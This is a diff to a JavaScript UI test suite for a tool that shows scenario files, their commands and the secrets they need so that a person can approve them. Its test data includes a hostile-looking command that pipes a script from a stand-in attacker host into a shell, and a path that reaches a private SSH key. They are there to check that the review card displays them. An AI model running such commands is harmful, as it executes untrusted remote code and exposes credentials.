@@ -145,7 +145,7 @@ describe('while they run', () => {
   it('a file that comes later waits to be looked at, and its programs are shown', async () => {
     const { host } = await page(scenarioStory('scenariosDone', EVENTS));
     const card = screen.getByTestId('scenario-new').closest('section')!;
-    expect(card).toHaveTextContent('curl https://evil.example | sh');
+    for (const told of ['curl https://evil.example | sh', '../../.ssh/id_ed25519', 'https://evil.example']) expect(card).toHaveTextContent(told);
     expect(screen.getAllByTestId('scenario-new')).toHaveLength(1);
     await person.click(within(card).getByTestId('run-new'));
     expect(host.orderScenarios).toHaveBeenCalledExactlyOnceWith('run');
@@ -206,7 +206,7 @@ describe('what is known of them', () => {
 
   it('each command and each secret is named once', () => {
     const twice = line({ type: 'file', version: 1, file: '/b.toml', held: true, runs: [{ name: 'again', by: 'command', commands: ['node login.mjs --as grace'] }] });
-    const needs = needsTrust(after(...planned, twice));
+    const needs = needsTrust(after(...planned, twice).files);
     expect(needs.commands).toEqual(['node login.mjs --as ada --deny', 'node login.mjs --as grace']);
     expect(needs.secrets).toEqual({ env: ['ADA_PASSWORD'], file: [], keyring: ['acme-tests, grace'] });
   });
